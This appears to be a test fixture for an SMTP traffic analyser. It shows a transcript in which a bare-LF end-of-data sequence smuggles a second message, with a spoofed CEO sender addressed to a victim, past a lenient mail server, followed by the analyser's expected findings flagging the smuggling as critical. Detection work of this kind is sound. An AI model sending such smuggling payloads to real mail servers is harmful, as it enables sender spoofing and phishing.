# SMTP: a lenient server answers the smuggled commands while the client is still sending its one message
without: loss one-sided snaplen

S: 220 mx.example.net
C: EHLO c
S: 250 mx
C: MAIL FROM:<a@example.org>
S: 250 OK
C: RCPT TO:<b@example.net>
S: 250 OK
C: DATA
S: 354 go on
C: Subject: harmless
C:
C: text\n.\n\
C: MAIL FROM:<ceo@example.net>
C: RCPT TO:<victim@example.net>
S: 250 first queued
S: 250 sender OK
S: 250 recipient OK
C: DATA
S: 354 go on
C: Subject: smuggled
C:
C: text
C: .
S: 250 second queued
C: QUIT
S: 221 Bye
---
finding rule.id=smtp.bare_lf
finding rule.id=smtp.smuggling finding.severity=critical confidence=confirmed
  evidence.0.text=LF.LF evidence.3.text="first queued" evidence.6.text=DATA evidence.7.text="go on"
  evidence.8.what="the reply to the message" evidence.8.text="second queued"
message subject=harmless complete=true envelope.reply_text="second queued"
command seq=0
command verb=EHLO
command verb=MAIL
command verb=RCPT
command verb=DATA
command verb=- reply_text="first queued" note="to a command that the server read in the message"
command verb=- reply_text="sender OK"
command verb=- reply_text="recipient OK"
command verb=- reply_code=354
command verb=. reply_text="second queued"
command verb=QUIT
